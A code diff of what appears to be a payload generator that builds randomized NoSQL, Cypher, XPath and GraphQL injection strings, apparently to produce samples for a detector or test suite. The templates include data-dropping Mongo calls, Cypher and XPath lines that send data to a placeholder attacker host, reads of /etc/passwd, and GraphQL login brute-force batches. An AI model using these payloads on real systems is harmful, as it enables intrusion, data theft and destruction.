@@ -91,12 +91,12 @@ export const nosqlTemplates = family('other-injection/nosql', {
     (s) =>
       text`${value}${oneOf("'", '"')} ${oneOf('||', '&&')} ${oneOf(text`'${s}'=='${s}`, text`"${s}"=="${s}`, text`'${s}'==='${s}`, text`1==1//`, text`1==1%00`, text`1 || '${s}`, text`true || '`)}`
   ),
-  'return-statement': text`${maybe(digits(1))}${maybe(oneOf("'", '"', "';", '";', ';'))}${maybe(';')}return${oneOf(' ', '(')}${oneOf('true', text`'${letters(LOWER, 1)}'=='${letters(LOWER, 1)}'`, '1==1', text`this.${field}`)}${maybe(')')}${oneOf(';', '', text`;var xyz='${letters(LOWER, 1)}`, '//', " && ''=='", ";'")}`,
+  'return-statement': text`${maybe(digits(1))}${maybe(oneOf("'", '"', "';", '";', ';'))}${maybe(';')}return${oneOf(' ', '(')}${oneOf('true', text`'${letters(LOWER, 1)}'=='${letters(LOWER, 1)}'`, '1==1', text`this.${field}`)}${maybe(')')}${oneOf(';', '', text`; var ${lowerWord}='${letters(LOWER, 1)}`, '//', " && ''=='", ";'")}`,
   'javascript-sleep': text`${value}${oneOf("'", '"', '', ')')}${oneOf(';', '||', '&&', ',')}sleep(${integer(100, 30_000)})${oneOf(';', '//', ";'", text`||'`, ';}')}`,
   aggregation: text`[{"$${words('lookup match project out merge unionWith')}":${oneOf(text`{"from":"${words('users admin accounts')}","localField":"_id","foreignField":"_id","as":"${lowerWord}"}`, text`{"${field}":{"${operator}":${operand}}}`, '{}', text`"${lowerWord}"`)}}${maybe(text`,{"$${words('limit skip')}":${integer(1, 99)}}`)}]`,
   'expression-function': text`{"${words('$function $accumulator $expr $eval')}":{"body":"function(){${javascript}}","args":[],"lang":"js"}}`,
-  'javascript-drop': text`${value}${quote}${maybe('}')}); db.${words('users injection admin')}.${oneOf('insert', 'drop', 'remove', 'find')}(${oneOf('{}', text`{success:${integer(0, 1)}}`, '')});${maybe(" var dummy=('")}`,
-  'where-bare': text`${maybe(oneOf('true', '1', value, '0;return true'))}${maybe(', ')}$where:${maybe(' ')}${same(oneOf("'", '"'), (quote) => text`${quote}${oneOf('1 == 1', 'return true', javascript)}${quote}`)}`,
+  'javascript-drop': text`${value}${quote}${maybe('}')}); db.${words('users injection admin')}.${oneOf('insert', 'drop', 'remove', 'find')}(${oneOf('{}', text`{${lowerWord}:${integer(0, 1)}}`, '')});${maybe(" var dummy=('")}`,
+  'where-bare': text`${maybe(oneOf('true', '1', value, text`${integer(0, 9)};return true`))}${maybe(', ')}$where:${maybe(' ')}${same(oneOf("'", '"'), (quote) => text`${quote}${oneOf('1 == 1', 'return true', javascript)}${quote}`)}`,
   'match-null': text`${value}${quote}${maybe(' ')}${oneOf('&&', '||', '%26%26')} this.${lowerWord}${oneOf('.match(/.*/)', "!=''", '.length>0')}${oneOf('//+%00', '//', '\u0000', '%00', '//+\u0000')}`,
   'operator-in-parameter': text`${maybe(text`${lowerWord}=${lowerWord}&`)}${field}[${words('$ne $gt $regex $nin $exists')}]${oneOf('=', '%5D=', '[]=')}${oneOf('', '1', lowerWord, '.*', 'true')}`,
   'graph-cypher': text`${value}${quote}${oneOf('}) ', ' ', '})-[r]-(n) ')}${oneOf(text`OR 1=1 ${maybe('RETURN n')}//`, text`RETURN ${lowerWord} UNION MATCH (n) RETURN n//`, text`WITH 1 as a CALL db.labels() YIELD label LOAD CSV FROM 'http://${attackerHost}/?l='+label AS b RETURN b//`, text`DETACH DELETE n//`, text`UNION MATCH (u:User) RETURN u.${field}//`, text`CALL apoc.load.json('http://${attackerHost}')`)}`,
@@ -131,7 +131,7 @@ export const xpathTemplates = family('other-injection/xpath', {
   ),
   'or-node': text`${value}${quote}${maybe(']')} ${words('or and')} ${oneOf(text`count(//${node})=${integer(0, 9)}`, text`string-length(//${node}[position()=${integer(1, 9)}]/child::node()[position()=${integer(1, 9)}])=${integer(1, 20)}`, text`substring(//${node}[${integer(1, 9)}]/${node},${integer(1, 9)},1)='${letters(LOWER, 1)}'`, text`starts-with(name(/*[1]),'${letters(LOWER, 1)}')`, text`/*/*[${integer(1, 9)}]`, text`name(/*[1])='${lowerWord}'`, text`string-length(name(/*[1]))=${integer(1, 20)}`, text`normalize-space(//${node})`)}${maybe(text` or ${quote}`)}`,
   'union-path': text`${value}${quote}${oneOf('] | ', ' | ', ')] | ', '|', ')]|')}//${node}${oneOf('', '/*', text`[${integer(1, 9)}]`, '/text()', text`['`, text`[${letters(LOWER, 1)}=${quote}`, '/password', text` | a['`)}`,
-  comment: text`${value}' ${oneOf("or 1=1 or ''='", 'or //*', "] | //* | a['", "or '1'='1' (: ")}`,
+  comment: text`${value}' ${oneOf("or 1=1 or ''='", text`or //${node}`, text`] | //${node} | a['`, text`or '${lowerWord}'='${lowerWord}' (: `, text`or true() (: ${lowerWord} :)`)}`,
   'bare-path': text`//${node}[${oneOf(text`${words('username name login')}/text()='' or 1=1 or 'a'='a'`, text`contains(.,'${lowerWord}') or true()`, text`position()=1] | //${node}[1=1`, "name/text()='' or '1'='1'")}]${maybe(text`/child::node()[position()=${integer(1, 9)}]`)}`,
   'document-fetch': text`${value}${quote} ${words('and or')} ${oneOf(text`doc('http://${attackerHost}/${lowerWord}')`, text`doc(concat('http://${attackerHost}/',name(/*[1])))`, text`unparsed-text('file:///etc/passwd')`, text`doc('file:///etc/passwd')/*`)}${maybe(" or '")}`,
   axes: text`${value}${quote}${maybe(']')}${oneOf('/', ' or ', '|')}${words('ancestor::* child::node() parent::* descendant-or-self::node() following-sibling::* attribute::* preceding::*')}${oneOf(text`[${integer(1, 9)}=${integer(1, 9)}`, text`['`, text` or '1'='1`, '')}`
@@ -140,10 +140,16 @@ export const xpathTemplates = family('other-injection/xpath', {
 export const graphqlTemplates = family('other-injection/graphql', {
   introspection: text`${oneOf('', 'query ', 'query IntrospectionQuery', text`query ${lowerWord}`)}{__schema{${repeat(oneOf('types{name}', 'types{name,fields{name}}', 'queryType{name}', 'mutationType{name}', 'queryType{fields{name description}}', 'directives{name locations args{name}}', 'types{name kind description fields{name type{name}}}', 'subscriptionType{name}'), 1, 4, oneOf(' ', ',', ''))}}}`,
   'argument-injection': text`{${node}(${field}:"${oneOf(text`' or ${integer(1, 9)}=${integer(1, 9)}--`, text`1' union select ${repeat('null', 1, 5, ',')}--`, text`{\\"$ne\\":null}`, text`' || '1'=='1`)}"){${field} ${field}}}`,
-  'alias-batch': text`{${altered(integer(8, 40), (count) => Array.from({ length: Number(count) }, (_, at) => `a${at}:login(user:"admin",password:"${at * 7919}"){token}`).join(' '))}}`,
-  'deep-nesting': altered(
-    integer(12, 40),
-    (depth) => `query{${'author{posts{'.repeat(Number(depth))}id${'}}'.repeat(Number(depth))}}`
+  'alias-batch': same(
+    letters(LOWER, 1, 4),
+    (name) =>
+      text`{${altered(integer(8, 40), (count, rng) => Array.from({ length: Number(count) }, (_, at) => `${name}${at}:login(user:"admin",password:"${rng.hex(6)}"){token}`).join(' '))}}`
+  ),
+  'deep-nesting': same(lowerWord, (name) =>
+    altered(
+      integer(12, 40),
+      (depth) => `query{${`${name}{posts{`.repeat(Number(depth))}id${'}}'.repeat(Number(depth))}}`
+    )
   ),
   'circular-fragments': text`query{...A}fragment A on ${lowerWord}{...B}fragment B on ${lowerWord}{...A}`,
   'directive-overload': text`query{__typename ${repeat(text`@${oneOf('aa', 'skip(if:false)', 'include(if:true)', 'x')}`, 15, 60)}}`,
